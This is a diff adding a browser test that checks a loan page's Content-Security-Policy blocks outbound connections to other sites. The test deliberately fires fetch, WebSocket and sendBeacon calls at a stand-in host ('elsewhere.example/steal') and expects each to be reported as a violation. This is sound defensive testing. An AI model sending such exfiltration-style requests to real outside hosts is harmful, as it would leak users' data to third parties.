@@ -14,6 +14,35 @@ test('the page’s own rules leave no way around the pins', async ({ page }) => 
   expect(headers['integrity-policy']).toBe('blocked-destinations=(script)')
 })
 
+test('a page talks to its own site and to nobody else', async ({ visitor: page }) => {
+  const headers = (await page.goto('/loan'))?.headers() ?? {}
+  expect(headers['content-security-policy']).toContain("connect-src 'self';")
+  const told = await page.evaluate(async () => {
+    const violations: string[] = []
+    addEventListener('securitypolicyviolation', event => violations.push(event.blockedURI))
+    await fetch('https://elsewhere.example/steal').catch(() => {})
+    try {
+      new WebSocket('wss://elsewhere.example/steal')
+    } catch {}
+    navigator.sendBeacon('https://elsewhere.example/beacon')
+    const own = new WebSocket(`ws://${location.host}/market`)
+    const isOpen = await new Promise(resolve => {
+      own.onopen = () => resolve(true)
+      own.onerror = () => resolve(false)
+    })
+    own.close()
+    return { violations, isOpen }
+  })
+  expect(told).toEqual({
+    violations: [
+      'https://elsewhere.example/steal',
+      'wss://elsewhere.example/steal',
+      'https://elsewhere.example/beacon',
+    ],
+    isOpen: true,
+  })
+})
+
 test('a script that nobody pinned never runs, however it is brought in', async ({ visitor: page }) => {
   await page.route('**/assets/intruder.js', route =>
     route.fulfill({ contentType: 'text/javascript', body: INTRUDE }),
